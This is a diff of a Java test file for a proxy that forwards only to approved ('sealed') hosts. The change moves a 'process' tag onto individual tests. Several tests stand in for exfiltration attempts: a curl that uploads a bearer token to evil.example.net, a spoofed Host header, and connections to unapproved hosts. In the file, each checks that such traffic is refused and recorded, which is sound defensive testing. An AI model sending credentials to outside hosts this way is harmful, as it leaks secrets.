@@ -45,7 +45,6 @@ import org.junit.jupiter.params.provider.ValueSource;
  * Tests the front as a proxy: it makes the same attempts as the reverse front. Everything else is refused and recorded.
  */
 @Timeout(300) // nothing here waits by the clock; a test that hangs has failed
-@Tag("process")
 final class ProxyTest {
 
     private static final String LEASE = "ilk_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAK";
@@ -165,6 +164,7 @@ final class ProxyTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"--http1.1", "--http2"})
+    @Tag("process")
     void aTunnelledRequestIsTheAttemptThatTheReverseFrontMakes(String protocol) throws Exception {
         String[] body = {"-H", "Content-Type: application/json", "-d", "{\"query\":\"{ me }\"}"};
         List<String> through = new ArrayList<>(List.of(protocol, "https://" + HOST + "/graphql/v2?b=2&a=%2F+x"));
@@ -192,6 +192,7 @@ final class ProxyTest {
     }
 
     @Test
+    @Tag("process")
     void theProxyLeaseIsNotForwarded() throws Exception {
         curl("https://" + HOST + "/x");
         assertThat(String.join("\n", upstream.requests)).contains("GET /x").doesNotContain("ilk_", "proxy-auth");
@@ -200,6 +201,7 @@ final class ProxyTest {
     }
 
     @Test
+    @Tag("process")
     void anAbsoluteUrlIsTheSameCall() throws Exception {
         seal("http://" + HOST, Map.of("up", FrontFixture.route(upstream.address())));
         assertThat(curl("http://" + HOST + "/graphql/v2?a=1").out()).startsWith("ok\n200");
@@ -209,6 +211,7 @@ final class ProxyTest {
     }
 
     @Test
+    @Tag("process")
     void theLongestBasePathDecides() throws Exception {
         seal("https://" + HOST, Map.of("short", below("/api"), "long", below("/api/v3")));
         curl("https://" + HOST + "/api/v3/repos");
@@ -220,6 +223,7 @@ final class ProxyTest {
     }
 
     @Test
+    @Tag("process")
     void anAmbiguousUrlMatchesNoUpstream() throws Exception {
         seal("https://" + HOST, Map.of("one", below("/api"), "two", below("/api/")));
         assertThat(curl("https://" + HOST + "/api/x").out()).contains("`one`, `two`", "\n403");
@@ -240,6 +244,7 @@ final class ProxyTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"--http1.1", "--http2"})
+    @Tag("process")
     void anUnsealedHostIsRefusedWithAReason(String protocol) throws Exception {
         assertThat(curl(protocol, "-H", "Authorization: Bearer sk_stray", "https://evil.example.net/upload")
                         .out())
@@ -404,6 +409,7 @@ final class ProxyTest {
     }
 
     @Test
+    @Tag("process")
     void theAuthorityOfAStreamMustEqualTheTunnels() throws Exception {
         assertThat(curl("--http2", "-H", "Host: evil.example.net", "https://" + HOST + "/x")
                         .out())
@@ -456,6 +462,7 @@ final class ProxyTest {
     }
 
     @Test
+    @Tag("process")
     void aDistrustingClientIsStillRecorded() throws Exception {
         Files.writeString(directory.resolve("ca.pem"), "");
         curl("https://evil.example.net/x");
@@ -511,6 +518,7 @@ final class ProxyTest {
 
     /** A process that can connect to the place, or a tool that contacts its vendor, must not lock its agent out. */
     @Test
+    @Tag("process")
     void unsealedHostsUseNothingOfSealedOnes() throws Exception {
         for (int i = 0; i <= HostCertificates.AT_ONCE; i++) {
             try (RawClient client = raw()) {
@@ -521,6 +529,7 @@ final class ProxyTest {
     }
 
     @Test
+    @Tag("process")
     void theSharedListenerCertifiesOnlySealedHosts() throws Exception {
         assertThat(curl(setting.address, "https://" + HOST + "/x").out()).contains("response 403");
         CertificateAuthority kept = CertificateAuthority.longLived(Set.of(HOST), Instant.now(), new SecureRandom());
@@ -545,6 +554,7 @@ final class ProxyTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"--http1.1", "--http2"})
+    @Tag("process")
     void aTunnelledClientLearnsThatItWaited(String version) throws Exception {
         setting.handler.does = FakeHandler.FakeBehaviour.WAIT_AND_FORWARD;
         setting.handler.decided.countDown();
